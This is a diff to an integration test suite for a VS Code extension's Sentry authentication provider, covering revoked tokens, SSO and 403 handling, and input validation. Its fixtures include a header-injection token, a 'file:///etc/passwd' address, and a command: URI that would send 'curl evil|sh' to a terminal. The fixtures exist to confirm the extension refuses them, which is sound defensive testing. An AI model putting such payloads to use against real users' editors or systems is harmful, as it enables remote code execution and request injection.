@@ -5,7 +5,7 @@ import * as vscode from 'vscode';
 import { SentryClient } from '../../src/api/client';
 import { ForbiddenError, UnauthorizedError } from '../../src/api/errors';
 import type { SentryAuth } from '../../src/auth/sentryAuth';
-import { clientSecretKey } from '../../src/auth/sessionCodec';
+import { clientSecretKey, sessionsKey } from '../../src/auth/sessionCodec';
 import { AUTH_PROVIDER_ID, Commands, EXTENSION_ID } from '../../src/constants';
 import { auth as getAuth, authorizeInChromium, chromiumPage, closeChromium, control, readExtensionLog, SANDBOX_URL, UiRecorder, waitFor, type RequestLogEntry } from './authHelpers';
 import { print } from './output';
@@ -279,7 +279,7 @@ describe('sign-in (sentry-explorer authentication provider)', function () {
     assert.ok(rec.shown.slice(before).some((s) => s.level === 'error' && /denied/.test(s.message)));
   });
 
-  it('a token revoked on the server leads to the sign-in prompt', async () => {
+  it('a revoked pasted token is never deleted unasked: dismissing keeps it, "Remove Sign-In" removes it', async () => {
     const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
     seenSecrets.add(token.token);
     rec.set({ method: 'token', inputs: [token.token] });
@@ -289,13 +289,156 @@ describe('sign-in (sentry-explorer authentication provider)', function () {
     const client = (await auth.getClient())!;
     await client.listOrganizations();
     await control('tokens/revoke', { token: token.token });
-    const before = rec.shown.length;
+    // First question: dismissed. The token stays stored (Sentry shows a user token only once).
+    let before = rec.shown.length;
+    rec.set({ answer: () => undefined });
     await assert.rejects(client.listOrganizations(), (e: unknown) => e instanceof Error && e.name === UnauthorizedError.name);
-    await waitFor('the sign-in prompt', () => rec.shown.slice(before).find((s) => /Sign in again/i.test(s.message) && s.items.includes('Sign In')));
-    assert.equal(auth.isSignedIn(), false);
+    await assert.rejects(client.listOrganizations(), (e: unknown) => e instanceof Error && e.name === UnauthorizedError.name);
+    const asked = await waitFor('the question', () => rec.shown.slice(before).find((s) => /rejected the stored auth token/.test(s.message)));
+    assert.deepEqual(asked.items, ['Sign In Again', 'Remove Sign-In']);
+    assert.match(asked.detail ?? '', /only once/);
+    await new Promise((r) => setTimeout(r, 200));
+    assert.equal(rec.shown.slice(before).filter((s) => /rejected the stored/.test(s.message)).length, 1, 'asked once, not per request');
+    assert.equal(auth.isSignedIn(), true, 'kept');
+    assert.ok(await auth.context.secrets.get(auth.provider.storageKey), 'the stored token is still there');
+
+    // A second revoked token, and this time the user removes it.
+    const token2 = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
+    seenSecrets.add(token2.token);
+    rec.set({ method: 'token', inputs: [token2.token] });
+    assert.ok(await auth.signIn());
+    const client2 = (await auth.getClient())!;
+    await control('tokens/revoke', { token: token2.token });
+    before = rec.shown.length;
+    rec.set({ answer: (s) => (/rejected the stored/.test(s.message) ? 'Remove Sign-In' : undefined) });
+    await assert.rejects(client2.listOrganizations(), (e: unknown) => e instanceof Error && e.name === UnauthorizedError.name);
+    await waitFor('signed out', () => !auth.isSignedIn() || undefined);
     assert.equal(await auth.context.secrets.get(auth.provider.storageKey), undefined, 'its secrets are gone');
     // Context keys cannot be read back; an empty tree is what makes the view show its sign-in welcome.
     assert.deepEqual(await (await activateExtension()).issues.tree.getChildren(), [], 'the Issues view falls back to its welcome');
+  });
+
+  it('a 401 naming a step (sso-required) keeps the session and offers the server\'s own page', async () => {
+    const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
+    seenSecrets.add(token.token);
+    rec.set({ method: 'token', inputs: [token.token] });
+    assert.ok(await auth.signIn());
+    const client = (await auth.getClient())!;
+    await control('faults', {
+      path: '^/api/0/organizations/$',
+      count: 1,
+      respond: { status: 401, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ detail: { code: 'sso-required', message: 'Must login via SSO', extra: { loginUrl: '/auth/login/acme/' } } }) },
+    });
+    const before = rec.shown.length;
+    const opened = rec.opened.length;
+    rec.set({ answer: (s) => s.items.find((i) => i.startsWith('Open ')) });
+    // The client comes from the extension's bundle: its error classes are not this suite's.
+    const err = (await client.listOrganizations().catch((e: unknown) => e)) as UnauthorizedError;
+    assert.equal(err.name, UnauthorizedError.name, String(err));
+    assert.equal(err.code, 'sso-required');
+    const told = await waitFor('the step message', () => rec.shown.slice(before).find((s) => /single sign-on/.test(s.message)));
+    assert.equal(told.level, 'warning');
+    await waitFor('the page to open', () => rec.opened.length > opened || undefined);
+    assert.deepEqual(rec.opened.slice(opened), [`${SANDBOX_URL}/auth/login/acme/`]);
+    assert.equal(auth.isSignedIn(), true, 'the session is kept');
+    assert.ok(await auth.context.secrets.get(auth.provider.storageKey));
+    assert.ok((await client.listOrganizations()).items.length >= 1, 'the same session works once the step is done');
+    assert.equal(rec.shown.slice(before).some((s) => /rejected the stored/.test(s.message)), false, 'not treated as an expired token');
+  });
+
+  it('a 403 for a token that has the scope quotes the server and does not ask for a scope', async () => {
+    const client = (await auth.getClient())!;
+    await control('faults', {
+      path: '/events/$',
+      count: 1,
+      respond: { status: 403, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ detail: 'This token is limited to another organization.' }) },
+    });
+    const err = (await client.listIssueEvents(defaults.org, '1').catch((e: unknown) => e)) as ForbiddenError;
+    assert.equal(err.name, ForbiddenError.name, String(err));
+    assert.deepEqual([...err.missingScopes], [], 'the session has event:read (grantedScopes is wired from the session)');
+    assert.match(err.message, /limited to another organization/);
+    const before = rec.shown.length;
+    rec.set({ answer: () => undefined });
+    await auth.showForbidden(err);
+    const shown = rec.shown.slice(before);
+    assert.equal(shown.length, 1);
+    assert.deepEqual(shown[0].items, [], 'no "Sign In Again": scopes are not what is missing');
+    assert.match(shown[0].message, /limited to another organization/, 'the server\'s detail is quoted');
+    assert.doesNotMatch(shown[0].message, /granting that scope/);
+  });
+
+  it('credentials with control characters or inner whitespace are refused at paste: nothing is sent or stored', async () => {
+    await auth.signOut();
+    await control('requests/clear', {});
+    for (const bad of ['sntryu_abc\u0007def0123456789', 'sntryu_abc\r\nX-Injected: 1', 'sntryu_abc def0123456789']) {
+      const before = rec.shown.length;
+      rec.set({ method: 'token', inputs: [bad] });
+      assert.equal(await auth.signIn(), undefined, JSON.stringify(bad));
+      const refused = rec.shown.slice(before).find((s) => s.level === 'error');
+      assert.match(refused?.message ?? '', /control or invisible character|no spaces/, JSON.stringify(bad));
+    }
+    assert.deepEqual((await control<RequestLogEntry[]>('requests')).map((r) => r.path), [], 'no request was sent');
+    assert.equal(await auth.context.secrets.get(auth.provider.storageKey), undefined);
+  });
+
+  it('changing sentryExplorer.baseUrl during a sign-in stores the session under the server that issued it', async () => {
+    const cfg = vscode.workspace.getConfiguration('sentryExplorer');
+    const other = 'http://127.0.0.1:9';
+    const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
+    seenSecrets.add(token.token);
+    try {
+      rec.set({
+        method: 'token',
+        inputs: [token.token],
+        // While the token box is open, the setting moves to another server.
+        onInput: async () => {
+          await cfg.update('baseUrl', other, vscode.ConfigurationTarget.Global);
+          await waitFor('the switch', () => auth.provider.baseUrl === other);
+        },
+      });
+      const session = await auth.signIn();
+      assert.ok(session, 'signed in (with the server the sign-in started with)');
+      assert.equal(await auth.context.secrets.get(sessionsKey(other)), undefined, 'nothing stored for the other server');
+      const stored = await auth.context.secrets.get(sessionsKey(SANDBOX_URL!));
+      assert.ok(stored && JSON.parse(stored).sessions[0].id === session.id, 'stored for the issuing server');
+      assert.equal(auth.isSignedIn(), false, 'the other server has no session');
+    } finally {
+      await cfg.update('baseUrl', SANDBOX_URL, vscode.ConfigurationTarget.Global);
+      await waitFor('the switch back', () => auth.provider.baseUrl === SANDBOX_URL);
+    }
+    await waitFor('the session of the issuing server', () => auth.isSignedIn() || undefined);
+    assert.ok((await (await auth.getClient())!.listOrganizations()).items.length >= 1);
+    await auth.signOut();
+  });
+
+  it('a device-code answer naming a file:, command: or foreign page opens nothing and shows the address as text', async () => {
+    await control('requests/clear', {});
+    await control('faults', {
+      path: '^/oauth/device/code/$',
+      count: 1,
+      respond: {
+        status: 200,
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({
+          device_code: 'f'.repeat(64),
+          user_code: 'BCDF-GHJK',
+          verification_uri: 'file:///etc/passwd',
+          verification_uri_complete: 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D',
+          expires_in: 600,
+          interval: 1,
+        }),
+      },
+    });
+    const opened = rec.opened.length;
+    const before = rec.shown.length;
+    rec.set({ method: 'device', answer: (s) => (s.modal ? s.items[0] : undefined) });
+    assert.equal(await auth.signIn(), undefined, 'the unknown device code cannot be approved');
+    assert.deepEqual(rec.opened.slice(opened), [], 'openExternal was never called');
+    const modal = rec.shown.slice(before).find((s) => s.modal)!;
+    assert.deepEqual(modal.items, ['Copy Code'], 'no "Copy & Open"');
+    assert.match(modal.detail ?? '', /file:\/\/\/etc\/passwd/, 'the address is shown as text');
+    assert.equal(rec.clipboard.at(-1), 'BCDF-GHJK', 'the code is still copied');
+    for (const s of rec.shown.slice(before)) assert.doesNotMatch(`${s.message} ${s.detail ?? ''}`, /\]\(|command:workbench/, 'no link or command in any message');
   });
 
   it('invalid_grant on refresh (a revoked token family): the session is removed and the user told to sign in again', async () => {
